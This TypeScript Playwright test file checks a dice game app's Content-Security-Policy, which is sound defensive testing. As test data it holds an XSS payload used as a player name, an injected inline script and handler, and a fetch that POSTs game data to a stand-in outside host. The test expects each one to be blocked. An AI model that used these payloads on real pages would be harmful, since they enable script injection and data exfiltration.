/**
 * The built page's Content-Security-Policy (scripts/vite/content-security-policy.ts). The app
 * shows what other players made, names and kit art from a backup file among them, so a script
 * smuggled into any of it must not run, and nothing may leave for another origin. The policy must
 * also refuse nothing the app itself does: the 5000 path with the camera read and a photo, kit art,
 * the camera check, a backup saved and imported again, each with no violation reported.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { openAppWithCamera, ROOT, type AppWithCamera } from './harness.ts';
import { cameraRead, headline, startGame } from './table-helpers.ts';
import { CONTENT_SECURITY_POLICY } from '../../scripts/vite/content-security-policy.ts';

const PHOTO = readFileSync(join(ROOT, 'tests/fixtures/dice-photos/matteop65-val-sample/valid_80.jpg'));

let app: AppWithCamera;

/** What the policy refused since the page loaded, as "directive blocked-URI" (the page's own record). */
async function refused(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy);
}

beforeAll(async () => {
  app = await openAppWithCamera(inject('distDir'), PHOTO, 640, 480);
  const { page } = app.session;
  // the record starts before the app's first script, on every load
  await page.addInitScript(() => {
    const record: string[] = [];
    (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy = record;
    document.addEventListener('securitypolicyviolation', (e) => record.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await page.reload();
  await page.getByTestId('new-game').waitFor();
});

afterAll(async () => {
  await app?.close();
});

describe('the Content-Security-Policy', () => {
  it('is the built page’s, as written', async () => {
    const { page } = app.session;
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CONTENT_SECURITY_POLICY);
  });

  it('refuses nothing the app does: 5000 by camera and photo, kits, the camera check, a backup saved and imported', async () => {
    const { page, errors } = app.session;
    // a name with markup is a name: shown as its text, nothing run
    await startGame(page, 'five-thousand', ['Ann', '<img src=x onerror="window.pwned=1">', 'Cy'], 2);
    await page.getByTestId('table-camera').waitFor();
    expect((await cameraRead(page)).length).toBe(5);
    await page.getByTestId('confirm-roll').click();
    await page.getByTestId('camera-read').waitFor({ state: 'detached' });
    expect(await headline(page)).toMatch(/^Ann rolled /);

    // a photo of the roll, shown from a blob: URL while it is read (its five dice are not the two
    // this roll throws, so it is discarded)
    await page.getByTestId('roll-photo-file').setInputFiles({ name: 'roll.jpg', mimeType: 'image/jpeg', buffer: PHOTO });
    await page.locator('[data-testid="camera-read"][data-source="photo"]').waitFor({ timeout: 45_000 });
    await page.getByRole('button', { name: 'Discard' }).click();
    await page.locator('[data-testid="camera-read"][data-source="photo"]').waitFor({ state: 'detached' });
    await page.getByTestId('slate').getByText('<img src=x onerror="window.pwned=1">').waitFor();

    await page.getByRole('button', { name: 'Back', exact: true }).click();
    await page.getByRole('button', { name: 'Dice kits' }).click();
    await page.locator('[data-kit-id="face-off"]').waitFor();
    await page.getByRole('button', { name: 'Back', exact: true }).click();
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByTestId('camera-check').click();
    await page.waitForFunction(() => /^(I see|No dice)/.test(document.querySelector('[data-testid="check-read"]')?.textContent?.trim() ?? ''), null, { timeout: 45_000 });
    await page.getByRole('button', { name: 'Back', exact: true }).click();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('backup-export').click()]);
    await page.getByTestId('backup-file').setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: await readFile(await download.path()) });
    await page.getByTestId('backup-message').waitFor();

    expect(await refused(page)).toEqual([]);
    expect(errors).toEqual([]);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  });

  it('refuses a script put into the page, inline handlers and styles, WebAssembly, and any other origin', async () => {
    const { page, errors } = app.session;
    await page.evaluate(() => {
      const bait = document.createElement('div');
      bait.id = 'policy-bait';
      // as markup from outside would arrive: an inline handler, an inline script, a style attribute
      bait.innerHTML = '<img src="/favicon.svg" onload="window.pwned = 1"><span style="color: red">red</span>';
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 2';
      bait.append(script);
      document.body.append(bait);
    });
    const outside = await page.evaluate(async () => {
      const image = new Image();
      image.src = 'https://example.com/tracker.png';
      return fetch('https://example.com/backup', { method: 'POST', body: 'games' }).then(
        () => 'sent',
        () => 'refused',
      );
    });
    expect(outside).toBe('refused');
    // the page compiles no WebAssembly (the dice reader's worker does, under its own policy)
    const wasm = await page.evaluate(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled', () => 'refused'));
    expect(wasm).toBe('refused');
    await expect.poll(async () => (await refused(page)).length).toBe(6);
    expect((await refused(page)).sort()).toEqual(
      ['connect-src https://example.com/backup', 'img-src https://example.com/tracker.png', 'script-src wasm-eval', 'script-src-attr inline', 'script-src-elem inline', 'style-src-attr inline'].sort(),
    );
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(await page.evaluate(() => getComputedStyle(document.querySelector('#policy-bait span')!).color)).not.toBe('rgb(255, 0, 0)');
    // the browser says each refusal on the console: the harness's record of errors takes them, and is emptied
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.every((e) => /Content Security Policy/.test(e))).toBe(true);
    errors.length = 0;
    await page.evaluate(() => document.getElementById('policy-bait')?.remove());
  });
});
